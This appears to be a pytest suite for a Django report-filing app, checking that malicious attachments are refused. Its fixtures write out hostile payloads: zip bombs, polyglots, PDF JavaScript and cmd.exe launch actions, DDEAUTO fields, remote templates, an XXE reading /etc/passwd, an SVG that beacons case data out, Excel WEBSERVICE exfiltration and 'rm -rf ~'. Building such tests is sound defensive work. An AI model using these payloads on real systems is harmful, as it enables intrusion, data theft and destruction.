"""Report attachments are judged by their content: each malicious file is built here, next to valid ones."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from reports import attachments
from reports.attachments import DOCX, XLSX, inspect_attachment
from reports.models import Report, ReportAttachment
from tests.reports.test_report_views import FORM

# --- builders -----------------------------------------------------------------------------------------

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def docx(
    *,
    body: str = "<w:p><w:r><w:t>合同编号 DX-2026-031</w:t></w:r></w:p>",
    main_type: str = WORD_MAIN,
    overrides: str = "",
    document_rels: str = "",
    parts: dict[str, bytes] | None = None,
) -> bytes:
    """A Word document as Word writes one: content types, package relationships, the main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>{overrides}</Types>',
        )
        package.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">'
            f'<Relationship Id="rId1" Type="{RELS}/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        package.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body>{body}</w:body></w:document>",
        )
        package.writestr(
            "word/_rels/document.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">'
            f'<Relationship Id="rId9" Type="{RELS}/hyperlink" Target="https://www.ccdi.gov.cn/" TargetMode="External"/>'
            f"{document_rels}</Relationships>",
        )
        for name, content in (parts or {}).items():
            package.writestr(name, content)
    return buffer.getvalue()


def xlsx(formula: str = "SUM(A1:A2)") -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["A2"], sheet["A3"] = 9.8, 9.8, f"={formula}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def pdf(*objects: bytes, catalog_extra: bytes = b"") -> bytes:
    """A small, well-formed PDF: a catalog, one page, `objects` numbered from 4, a cross-reference table."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref))
    return out.getvalue()


def object_stream(*objects: bytes) -> bytes:
    """A compressed object stream (PDF 1.5) holding `objects`, numbered from 10."""
    header, content = b"", b""
    for number, body in enumerate(objects, start=10):
        header += b"%d %d " % (number, len(content))
        content += body + b"\n"
    data = zlib.compress(header + content)
    return b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(objects),
        len(header),
        len(data),
        data,
    )


def picture(image_format: str, size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, image_format)
    return buffer.getvalue()


def reportlab_pdf() -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, "DX-2026-031")
    page.showPage()
    page.save()
    return buffer.getvalue()


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb(megabytes: int) -> bytes:
    """A Word-looking package whose document.xml is `megabytes` of zeros, written with zipfile."""
    buffer = io.BytesIO(docx())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
        package.open("word/media/zeros.xml", "w") as stream,
    ):
        for _ in range(megabytes):
            stream.write(b"\x00" * (1 << 20))
    return buffer.getvalue()


def refused(name: str, data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as error:
        inspect_attachment(name, data)
    assert error.value.messages and all(message.strip() for message in error.value.messages)
    return error.value


# --- accepted ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "mime"),
    [
        ("合同.docx", docx, DOCX),
        ("付款明细.XLSX", xlsx, XLSX),
        ("记录.pdf", reportlab_pdf, "application/pdf"),
        ("opens-on-page-one.pdf", lambda: pdf(catalog_extra=b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
        ("compressed-objects.pdf", lambda: pdf(object_stream(b"<< /Producer (x) >>")), "application/pdf"),
        ("现场.png", lambda: picture("PNG"), "image/png"),
        ("现场.jpg", lambda: picture("JPEG"), "image/jpeg"),
        ("IMG_0001.JPEG", lambda: picture("JPEG"), "image/jpeg"),
        ("动图.gif", lambda: picture("GIF"), "image/gif"),
        ("截图.webp", lambda: picture("WEBP"), "image/webp"),
        ("说明.txt", lambda: "合同编号 DX-2026-031，金额 9.8 万元。x < a，<<合同>>".encode(), "text/plain"),
    ],
)
def test_valid_documents_pictures_and_text_are_accepted(name, build, mime):
    assert inspect_attachment(name, build()) == mime


# --- archives that unpack to too much ---------------------------------------------------------------


def test_a_zip_bomb_named_docx_is_refused_from_its_central_directory_without_inflating(monkeypatch):
    # given 300 MB of zeros packed into a .docx of a few hundred kilobytes
    bomb = zip_bomb(300)
    assert len(bomb) < 2 * 1024 * 1024
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *args, **kwargs: opened.append(args) or 1 / 0)

    # when it is inspected
    error = refused("报告.docx", bomb)

    # then the declared sizes alone refuse it: nothing was inflated
    assert error.code == "bomb"
    assert opened == []


def test_a_small_archive_with_an_extreme_ratio_is_refused():
    bomb = zip_bomb(5)  # 5 MB: under the size limit, but more than 100 times the file
    assert len(bomb) * attachments.MAX_RATIO < 5 * 1024 * 1024

    assert refused("报告.docx", bomb).code == "bomb"


def test_an_archive_that_lies_about_its_sizes_is_stopped_while_inflating():
    # given a package whose zero-filled part says, in both headers, that it is 1,000 bytes
    bomb = zip_bomb(60)
    real = struct.pack("<I", 60 * 1024 * 1024)
    assert bomb.count(real) == 2  # the local header and the central directory
    lying = bomb.replace(real, struct.pack("<I", 1000))

    # when it is inspected, then it is refused quickly, having inflated no more than it said
    started = time.monotonic()
    refused("报告.docx", lying)
    assert time.monotonic() - started < 5


# --- two formats in one ------------------------------------------------------------------------------


def test_a_pdf_zip_polyglot_with_javascript_is_refused():
    script = pdf(b"<< /S /JavaScript /JS (app.alert('x')) >>", catalog_extra=b"/OpenAction 4 0 R") + zip_of(
        {"payload.js": b"WScript.Shell"}
    )

    assert refused("证据.pdf", script).code in {"polyglot", "active"}
    assert refused("证据.pdf", script[: script.index(b"PK")]).code == "active"  # the PDF alone


def test_a_pdf_with_a_zip_inside_is_refused_even_without_scripts():
    inner = zip_of({"a.txt": b"hello"})
    polyglot = pdf(b"<< /Length %d >>\nstream\n" % len(inner) + inner + b"\nendstream")

    assert refused("证据.pdf", polyglot).code == "polyglot"


def test_a_picture_with_a_zip_appended_is_refused():
    refused("现场.png", picture("PNG") + zip_of({"a.html": b"<script>alert(1)</script>"}))


def test_a_docx_starting_with_a_pdf_header_is_refused():
    # a PDF reader accepts %PDF- anywhere in the first kilobyte: here it is inside the first entry's name
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("%PDF-1.7.xml", b"x")
    with zipfile.ZipFile(io.BytesIO(docx())) as source, zipfile.ZipFile(buffer, "a") as archive:
        for entry in source.infolist():
            archive.writestr(entry.filename, source.read(entry))

    assert refused("合同.docx", buffer.getvalue()).code == "polyglot"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("现场.pdf", picture("PNG")),  # a picture called a PDF
        ("记录.png", reportlab_pdf()),
        ("合同.pdf", docx()),  # a zip called a PDF
        ("付款明细.docx", xlsx()),  # a workbook called a Word document
        ("合同.xlsx", docx()),
        ("说明.pdf", "这是一段文字".encode()),
        ("现场", picture("JPEG")),  # no extension
    ],
)
def test_a_file_whose_content_disagrees_with_its_name_is_refused(name, data):
    refused(name, data)


# --- markup, scripts, executables, whatever their name -----------------------------------------------

SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/reports/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script></svg>"
)
HTML = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script>举报材料</body></html>".encode()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("现场.svg", SVG),
        ("现场.png", SVG),
        ("说明.txt", SVG),
        ("证据.pdf", HTML),  # HTML renamed .pdf
        ("证据.html", HTML),
        ("说明.txt", HTML),
        ("说明.txt", b"  \n<html>"),
        ("说明.txt", "<script>alert(1)</script>".encode("utf-16")),  # UTF-16 markup
        ("说明.txt", "备注：见附件 <script src=//x></script>".encode()),
        ("数据.xml", b'<?xml version="1.0"?><a/>'),
        ("run.txt", b"#!/bin/sh\nrm -rf ~\n"),
        ("证据.pdf", b"MZ\x90\x00" + b"\x00" * 100),
        ("证据.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100),  # an old .doc with a new name
        ("说明.txt", "文字\x00\x01".encode()),
        ("说明.txt", "不是UTF-8".encode("gb18030")),
        ("script.js", b"alert(1)"),
    ],
)
def test_markup_scripts_and_executables_are_refused_whatever_their_name(name, data):
    refused(name, data)


# --- PDF ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "build",
    [
        lambda: pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        lambda: pdf(b"<< /Names [] >>", catalog_extra=b"/Names << /J#61vaScript 4 0 R >>"),  # #-escaped name
        lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        lambda: pdf(b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
        lambda: pdf(catalog_extra=b"/OpenAction << /S /URI /URI (https://example.org/seen) >>"),
        lambda: pdf(b"<< /S /URI /URI (https://example.org/seen) >>", catalog_extra=b"/OpenAction 4 0 R"),
        lambda: pdf(catalog_extra=b"/AcroForm << /XFA 4 0 R >>"),
        lambda: pdf(object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")),  # hidden in compressed objects
        lambda: pdf(object_stream(b"<< /OpenAction 11 0 R >>", b"<< /S /JavaScript /JS (x) >>")),
    ],
)
def test_pdfs_that_act_by_themselves_are_refused(build):
    refused("证据.pdf", build())


def test_a_pdf_whose_object_stream_cannot_be_read_is_refused():
    hidden = object_stream(b"<< /S /JavaScript /JS (x) >>").replace(b"/FlateDecode", b"/FlateDecode /DecodeParms <<>>")

    refused("证据.pdf", pdf(hidden))


# --- Word and Excel ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "build",
    [
        # macros
        lambda: docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64}),
        lambda: docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        lambda: docx(document_rels=f'<Relationship Id="rId2" Type="{RELS}/vbaProject" Target="vbaProject.bin"/>'),
        # embedded objects and nested archives
        lambda: docx(parts={"word/embeddings/oleObject1.bin": b"\x00" * 64}),
        lambda: docx(parts={"word/media/image1.png": zip_of({"evil.exe": b"MZ"})}),
        lambda: docx(parts={"word/media/archive.zip": zip_of({"a.txt": b"x"})}),
        lambda: docx(parts={"word/activeX/activeX1.xml": b"<ax/>"}),
        lambda: docx(document_rels=f'<Relationship Id="rId3" Type="{RELS}/aFChunk" Target="page.html"/>'),
        # fetched or run when opened
        lambda: docx(
            document_rels=f'<Relationship Id="rId4" Type="{RELS}/attachedTemplate" '
            'Target="http://198.51.100.7/t.dotm" TargetMode="External"/>'
        ),
        lambda: docx(
            document_rels=f'<Relationship Id="rId5" Type="{RELS}/image" '
            'Target="\\\\198.51.100.7\\share\\pixel.png" TargetMode="External"/>'
        ),
        lambda: docx(
            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
            '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        lambda: docx(body='<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://198.51.100.7/x.png&quot; "/></w:p>'),
        lambda: docx(  # another namespace prefix for the same elements
            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
            '<x:instrText xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">DDEAUTO cmd</x:instrText>'
            '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        lambda: docx(body="<w:p><w:r><w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText></w:r></w:p>"),
        # XML tricks
        lambda: docx(
            parts={"customXml/item1.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}
        ),
        # a formula that runs a program through DDE
        lambda: xlsx("cmd|' /C calc'!A0"),
        lambda: xlsx('WEBSERVICE("http://198.51.100.7/?"&A1)'),
    ],
)
def test_office_files_with_macros_embedded_or_remote_content_are_refused(build):
    data = build()
    name = "付款明细.xlsx" if data.count(b"xl/workbook.xml") else "合同.docx"

    refused(name, data)


def test_a_zip_that_is_not_an_office_document_is_refused():
    refused("合同.docx", zip_of({"word/document.xml": b"<w:document/>"}))  # the old check only looked for word/


def test_a_docx_with_a_local_template_and_a_hyperlink_is_accepted():
    data = docx(
        document_rels=f'<Relationship Id="rId2" Type="{RELS}/attachedTemplate" '
        'Target="file:///C:\\Users\\clerk\\Templates\\公文.dotm" TargetMode="External"/>'
    )

    assert inspect_attachment("合同.docx", data) == DOCX


# --- pictures -------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def test_a_picture_that_only_has_a_picture_header_is_refused():
    refused("现场.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
    refused("现场.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 64)


def test_a_picture_with_too_many_pixels_is_refused_before_it_is_decoded():
    # a 30,000 x 30,000 PNG header (900 megapixels) with a tiny body
    header = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0))
    bomb = b"\x89PNG\r\n\x1a\n" + header + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + _png_chunk(b"IEND", b"")

    assert refused("现场.png", bomb).code == "pixels"


# --- through the filing page --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("合同.docx", lambda: zip_bomb(300)),
        ("证据.pdf", lambda: pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (x) >>") + zip_of({"a": b"b"})),
        ("现场.png", lambda: SVG),
        ("合同.docx", lambda: docx(parts={"word/vbaProject.bin": b"\x00" * 16})),
    ],
)
def test_a_refused_attachment_is_a_form_error_and_nothing_is_stored(
    client, regions, calendar, settings, tmp_path, name, build
):
    # given a reporter filing with a malicious attachment next to a good one
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    files = [SimpleUploadedFile("现场.jpg", picture("JPEG")), SimpleUploadedFile(name, build())]

    # when they send the form
    response = client.post("/reports/new/", {**FORM, "attachments": files})

    # then the form comes back with the reason, and nothing was kept
    assert response.status_code == 400
    errors = " ".join(response.context["form"].errors.get("attachments", []))
    assert name in errors
    assert name in response.content.decode()
    assert not Report.objects.exists() and not ReportAttachment.objects.exists()
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]
